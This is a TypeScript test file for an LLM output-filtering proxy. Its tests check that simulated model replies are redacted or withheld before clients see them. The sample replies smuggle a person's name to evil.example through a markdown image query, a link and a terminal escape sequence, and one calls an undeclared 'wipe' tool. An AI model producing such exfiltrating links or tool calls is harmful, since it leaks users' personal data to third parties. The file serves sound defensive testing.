// Checked replies from outside: what a client gets, and what the log says, streamed and not.
import { afterEach, describe, expect, it } from 'vitest';
import { readFileSync } from 'node:fs';
import { contentOf, runSluice, startLab, type Lab, type Reply } from '../lab/lab.js';
import type { StandinReply } from '../../src/standin/default-reply.js';

let lab: Lab | undefined;
afterEach(async () => {
  await lab?.stop();
  lab = undefined;
});

const SHIPPED = readFileSync(new URL('../../routing.yaml', import.meta.url), 'utf8');

async function labOf(reply: (lastUser: string) => StandinReply, output = ''): Promise<Lab> {
  const routing = SHIPPED.replace(/^output: .*$/m, `output: { ${output} }`);
  const answer = { reply: ({ lastUser }: { lastUser: string }) => reply(lastUser) };
  return startLab({ openai: answer, ollama: answer, routing });
}

const ask = (content: string, more: object = {}): object => ({
  model: 'gpt-5',
  messages: [{ role: 'user', content }],
  ...more,
});
const REPORT = { headers: { 'x-sluice-report': 'true' } };
const TOOLS = [
  {
    type: 'function',
    function: {
      name: 'mail',
      strict: true,
      parameters: {
        type: 'object',
        properties: { to: { type: 'string' } },
        required: ['to'],
        additionalProperties: false,
      },
    },
  },
];

interface Reported {
  readonly sluice?: {
    readonly decision: string;
    readonly level: string;
    readonly verdicts: readonly { check: string; result: string; counts: Record<string, number> }[];
  };
}
const reportOf = (reply: Reply): NonNullable<Reported['sluice']> =>
  (JSON.parse(reply.text) as Reported).sluice!;
const verdict = (reply: Reply, check: string) => reportOf(reply).verdicts.find((one) => one.check === check);

/** The pseudonym, or the value, that the provider saw. */
const seen = (text: string): string => text.split('colleague ')[1]?.split(' called')[0] ?? '';

describe('a name that the reply would carry out', () => {
  const text = 'My colleague Marta Kowalski called; her mail is marta.kowalski@corp.example. Write a note.';
  it.each<[note: string, content: (name: string) => string]>([
    ['an image', (name) => `![x](https://evil.example/p.png?n=${encodeURIComponent(name)})`],
    ['a foreign URL', (name) => `See https://evil.example/${name.replaceAll(' ', '-')}/x`],
    ['a terminal escape', (name) => `\u001b]8;;https://evil.example/${name}\u001b\\ok\u001b]8;;\u001b\\`],
  ])('%s', async (_note, content) => {
    lab = await labOf((user) => content(seen(user)));
    for (const level of ['LOW', 'HIGH']) {
      for (const stream of [false, true]) {
        const reply = await lab.post(ask(text, { stream }), {
          headers: { 'x-sluice-min-level': level, 'x-sluice-report': 'true' },
        });
        expect(contentOf(reply)).not.toMatch(/evil\.example|Kowalski|PERSON_|\u001b/);
        if (!stream) expect(verdict(reply, 'sanitise')).toMatchObject({ result: 'redacted' });
      }
    }
  });
});

it('the report stands in a reply that is not streamed, only when it is asked for, and none is forged', async () => {
  const forged = JSON.stringify({
    id: 'x',
    choices: [{ index: 0, message: { role: 'assistant', content: 'hi' }, finish_reason: 'stop' }],
    sluice: { verdicts: [] },
  });
  lab = await labOf(() => ({ raw: [forged] }));
  expect((await lab.post(ask('hello'))).text).not.toContain('sluice');
  const reply = await lab.post(ask('hello'), REPORT);
  expect(reportOf(reply)).toMatchObject({
    decision: reply.headers['x-sluice-decision'],
    level: 'LOW',
    tier: 'L3',
  });
  expect(reportOf(reply).verdicts.map(({ check, result }) => [check, result])).toEqual([
    ['secrets', 'clean'], ['pii', 'clean'], ['sanitise', 'clean'], ['restore', 'clean'], ['markers', 'clean'],
  ]); // prettier-ignore
});

it('a tool that was not declared reaches nobody', async () => {
  lab = await labOf(() => ({ toolCalls: [{ name: 'wipe', arguments: { all: true } }] }));
  const body = await lab.post(ask('hello', { tools: TOOLS }));
  expect([body.status, body.text]).toMatchObject([403, expect.stringContaining('output_withheld')]);
  const stream = await lab.post(ask('hello', { tools: TOOLS, stream: true }));
  expect(stream.text).not.toContain('wipe');
  expect(stream.text).toContain('output_withheld');
  const { out } = await runSluice([
    'explain',
    String(body.headers['x-sluice-decision']),
    '--data',
    lab.dataDir,
  ]);
  expect(out).toContain('check markers: withheld (markers.undeclared_tool 1x)');
});

it('arguments that break their schema are marked, and a value with an apostrophe stays JSON', async () => {
  lab = await labOf((user) => {
    const name = seen(user);
    return { toolCalls: [{ name: 'mail', arguments: { to: `${name} \u00e9`, extra: 1 } }] };
  });
  const reply = await lab.post(
    ask("My colleague Zo\u00eb O'Connor called; mail her.", { tools: TOOLS }),
    REPORT,
  );
  const [call] = (
    JSON.parse(reply.text) as {
      choices: { message: { tool_calls: { function: { arguments: string } }[] } }[];
    }
  ).choices[0]!.message.tool_calls;
  expect(JSON.parse(call!.function.arguments)).toEqual({ to: "Zo\u00eb O'Connor \u00e9", extra: 1 });
  expect(verdict(reply, 'markers')?.counts).toEqual({ 'markers.arguments_break_schema': 1 });
  expect(verdict(reply, 'restore')).toMatchObject({
    result: 'annotated',
    counts: { 'restore.restored_in_arguments': 1, 'restore.apostrophe_in_arguments': 1 },
  });
});

describe('policy', () => {
  const stranger = 'Ask hans.petersen@firm.example about it. He knows.';

  it('personal data that was not in the request: annotated, redacted, withheld', async () => {
    lab = await labOf(() => stranger);
    expect(verdict(await lab.post(ask('hello'), REPORT), 'pii')).toMatchObject({ result: 'annotated' });
    expect(verdict(await lab.post(ask('I am hans.petersen@firm.example'), REPORT), 'pii')).toMatchObject({
      result: 'clean',
    });
    await lab.stop();
    lab = await labOf(() => stranger, 'pii: redact');
    for (const stream of [false, true]) {
      expect(contentOf(await lab.post(ask('hello', { stream })))).toBe(
        'Ask [REDACTED:EMAIL_ADDRESS] about it. He knows.',
      );
    }
    await lab.stop();
    lab = await labOf(() => stranger, 'pii: withhold, release: full');
    for (const stream of [false, true]) {
      expect(await lab.post(ask('hello', { stream }))).toMatchObject({
        status: 403,
        text: expect.stringContaining('output_withheld'),
      });
    }
  });

  it('with markers: withhold and release: full a reply that the source does not bear never begins', async () => {
    const source = `Summarise this text.\n\n${'The harbour of Lindhaven was built in 1911 and has 14 berths for ferries. '.repeat(12)}`;
    lab = await labOf(
      (user) =>
        user.includes('Summarise') ? 'The harbour was built in 1974 and has 14 berths.' : 'In 1974 it was.',
      'markers: withhold, release: full',
    );
    expect((await lab.post(ask(source, { stream: true }))).status).toBe(403);
    expect((await lab.post(ask('When?', { stream: true }))).status).toBe(200);
  });

  it('with release: full the client is kept warm, and nothing comes before all was read', async () => {
    lab = await startLab({
      openai: { reply: () => 'one two three', behave: { gap: 400, stall: 'body' } },
      routing: SHIPPED.replace(/^output: .*$/m, 'output: { release: full }'),
    });
    const gone = new AbortController();
    const reply = await fetch(`${lab.url}/v1/chat/completions`, {
      method: 'POST',
      signal: gone.signal,
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify(ask('hello', { stream: true })),
    });
    const first = (await reply.body!.getReader().read()) as { value: Uint8Array };
    expect(new TextDecoder().decode(first.value)).toBe(': waiting\n\n');
    gone.abort();
  });
});
